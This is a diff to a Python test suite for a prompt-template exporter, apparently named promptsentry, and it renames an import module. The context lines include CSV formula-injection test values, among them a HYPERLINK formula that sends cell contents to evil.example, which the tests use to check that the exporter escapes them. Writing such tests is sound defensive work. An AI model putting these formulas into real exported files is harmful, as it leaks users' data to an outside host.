@@ -13,10 +13,10 @@ import pytest
 from sqlalchemy import inspect, text
 
 from promptsentry.optimizer import templates as templates_module
-from promptsentry.optimizer.export import TEMPLATE_FIELDS
 from promptsentry.optimizer.features import embedding_input
 from promptsentry.optimizer.similarity import lexical_similarity
 from promptsentry.optimizer.tables import unpack_vector
+from promptsentry.optimizer.template_export import TEMPLATE_FIELDS
 from promptsentry.optimizer.templates import (
     MIN_SEMANTIC,
     ImmutableContent,
@@ -312,7 +312,7 @@ async def test_optimize_embeds_the_prompt_head_once_for_detection_and_the_templa
 
 
 def test_template_answers_and_exports_carry_no_vector(store):
-    from promptsentry.optimizer.export import export_csv_lines, export_json_lines
+    from promptsentry.optimizer.template_export import export_csv_lines, export_json_lines
 
     t = _make(store, "t1")
     assert "embedding" not in TEMPLATE_FIELDS
@@ -395,7 +395,7 @@ def test_export_round_trip_json_and_csv(store):
     t = _make(store, "t1", title=AWKWARD[:150], original_prompt=AWKWARD,
               optimized_prompt=AWKWARD + "\n(optimized)", tags=["x,y", 'q"z'],
               target_audience="devs, \"ops\"")
-    from promptsentry.optimizer.export import export_csv_lines, export_json_lines
+    from promptsentry.optimizer.template_export import export_csv_lines, export_json_lines
 
     as_json = json.loads("".join(export_json_lines(store.iter_all("t1"))))
     assert len(as_json) == 1
@@ -419,7 +419,7 @@ def test_export_round_trip_json_and_csv(store):
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
     "\tleading tab", "'=already quoted", "''=twice", "'plain apostrophe", "''", "'", "plain"])
 def test_csv_export_escapes_formula_cells_reversibly(store, value):
-    from promptsentry.optimizer.export import (
+    from promptsentry.optimizer.template_export import (
         escape_csv_formula,
         export_csv_lines,
         unescape_csv_formula,
